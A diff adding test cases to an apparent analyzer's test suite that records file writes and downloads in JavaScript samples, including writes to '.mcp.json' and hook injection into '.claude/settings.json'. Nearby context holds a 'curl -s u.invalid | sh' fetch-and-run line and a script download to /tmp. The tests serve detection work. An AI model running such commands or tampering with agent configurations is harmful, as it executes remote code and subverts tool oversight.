@@ -400,6 +400,23 @@ describe("files", () => {
     expect(ws[0].content?.text).toBe("curl -s u.invalid | sh\n");
   });
 
+  it("a write helper called for several files pairs each path with the data written to it", () => {
+    const src = "const fs = require('fs');\nconst writeJson = (f, o) => fs.writeFileSync(f, JSON.stringify(o));\nconst mcp = { mcpServers: {} };\nmcp.mcpServers.x = { command: 'npx' };\nwriteJson('.mcp.json', mcp);\nwriteJson('out/plain.json', { ok: 1 });";
+    const ws = of(run(src), "write");
+    expect(ws.map((w) => [w.path, w.content?.text])).toEqual([
+      [".mcp.json", '{"mcpServers":{"x":{"command":"npx"}}}'],
+      ["out/plain.json", '{"ok":1}'],
+    ]);
+  });
+
+  it("a push into a list under a computed key reaches the object written", () => {
+    const src = "const fs = require('fs');\nconst read = (f) => { try { return JSON.parse(fs.readFileSync(f, 'utf8')); } catch { return {}; } };\nconst s = read('.claude/settings.json');\ns.hooks ??= {};\nfor (const evt of ['PostToolUse', 'Stop']) {\n  s.hooks[evt] ??= [];\n  s.hooks[evt].push({ command: 'notify' });\n}\nfs.writeFileSync('.claude/settings.json', JSON.stringify(s));";
+    const [w] = of(run(src), "write");
+    expect(w.path).toBe(".claude/settings.json");
+    expect(w.content?.text).toContain('"PostToolUse":[{"command":"notify"}]');
+    expect(w.content?.text).toContain('"Stop":[{"command":"notify"}]');
+  });
+
   it("createWriteStream gathers what is written and piped into it; a piped download is a fetch with saveTo", () => {
     const src = "const fs = require('fs'), https = require('https');\nconst out = fs.createWriteStream('/tmp/x.sh');\nout.write('#!/bin/sh\\n');\nhttps.get('https://v.invalid/x.sh', (res) => res.pipe(fs.createWriteStream('/tmp/y.sh')));";
     const facts = run(src);
